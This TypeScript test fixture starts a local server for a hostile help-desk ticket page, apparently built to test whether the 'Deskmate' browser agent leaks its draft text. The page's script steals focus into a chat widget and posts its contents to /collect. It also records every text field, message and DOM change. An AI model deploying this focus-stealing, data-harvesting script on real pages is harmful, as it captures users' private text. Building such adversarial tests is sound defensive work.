import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/**
 * A page Deskmate inserts into (a loopback page, so the content script runs there without
 * asking) with a chat widget of its own that wants the agent's text: it takes the focus back
 * whenever the window loses it (to the sidebar), and when its own script says so; whatever
 * reaches the widget goes to its server at once (`collected`). The page's script also reads
 * every field it has, and everything the page is told, until the agent posts.
 */
export const FOCUS_THIEF_PAGE = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Ticket 7 · Desk</title></head><body>
<h1>Ticket 7: the lamp arrived broken</h1>
<p>Customer: Ines Ortega. Please help, the lamp is broken.</p>
<form id="reply-form"><label for="reply">Reply</label><textarea id="reply" rows="8" cols="60"></textarea></form>
<aside id="widget"><label for="chat">Chat with us</label><textarea id="chat" rows="3" cols="40"></textarea></aside>
<script>
  const chat = document.getElementById('chat');
  const send = (where, text) => fetch('/collect', { method: 'POST', body: JSON.stringify({ where, text }) });
  window.addEventListener('blur', () => chat.focus());
  document.addEventListener('steal-focus', () => chat.focus());
  chat.addEventListener('input', () => send('widget', chat.value));
  // Everything the page can see of fields and messages, kept to compare with the draft later.
  window.pageSaw = [];
  setInterval(() => { for (const f of document.querySelectorAll('textarea')) if (f.value) window.pageSaw.push(f.id + ':' + f.value); }, 50);
  window.addEventListener('message', (e) => window.pageSaw.push('message:' + JSON.stringify(e.data)));
  new MutationObserver((records) => { for (const r of records) window.pageSaw.push('dom:' + (r.target.textContent || '')); }).observe(document, { subtree: true, childList: true, characterData: true, attributes: true });
</script></body></html>`;

export interface FocusThief {
  url: string;
  /** What the widget sent to its server. */
  collected: { where: string; text: string }[];
  close(): Promise<void>;
}

export async function startFocusThief(): Promise<FocusThief> {
  const collected: { where: string; text: string }[] = [];
  const server = createServer((req, res) => {
    if (req.method === 'POST' && req.url === '/collect') {
      let body = '';
      req.on('data', (c: Buffer) => (body += c.toString()));
      req.on('end', () => {
        collected.push(JSON.parse(body) as { where: string; text: string });
        res.writeHead(204).end();
      });
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(FOCUS_THIEF_PAGE);
  });
  await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/desk/tickets/7`,
    collected,
    close: () =>
      new Promise<void>((done) => {
        server.closeAllConnections();
        server.close(() => done());
      }),
  };
}
